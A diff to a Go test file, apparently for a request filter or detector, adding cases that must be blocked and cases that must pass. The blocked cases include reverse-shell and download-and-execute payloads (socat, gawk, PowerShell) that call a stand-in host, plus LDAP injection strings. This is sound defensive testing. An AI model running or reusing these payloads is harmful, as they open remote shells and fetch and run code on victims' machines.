@@ -113,6 +113,12 @@ var recallBlock = []struct {
 	{"ldap or term after a close", query("uid", "bob)(|")},
 	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
 	{"php session file as an upload name", withHeaders("X-File-Name", "sess_0f1e2d3c4b5a69788796a5b4c3")},
+
+	// Shells and scripts handed to a network peer, whole values.
+	{"socat program address", query("host", "socat TCP:203.0.113.9:9001 EXEC:bash")},
+	{"gawk network file", post("application/json", `{"target":"awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/9001\";while(1){s|&getline c;print c|&s}}'"}`)},
+	{"powershell tcp client", query("t", `powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',9001)"`)},
+	{"powershell download cradle", query("t", `IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`)},
 }
 
 // recallGrey may be logged but must not block.
@@ -158,6 +164,8 @@ var recallBenign = []struct {
 	{"base64 with a plus", query("k", "q+ADwAbc9+xyz/AB==")},
 	{"function call chained", query("q", "connect(mapState)(App)")},
 	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
+	{"exec prefix in a config key", query("q", "exec:shutdown-hook")},
+	{"powershell cradle explained in markdown", post("application/json", `{"body":"## Detecting cradles\n\nAttackers often run `+"`IEX(New-Object Net.WebClient).DownloadString(url)`"+` to fetch a script; log PowerShell script blocks to see it.\n"}`)},
 }
 
 func TestRecall(t *testing.T) {
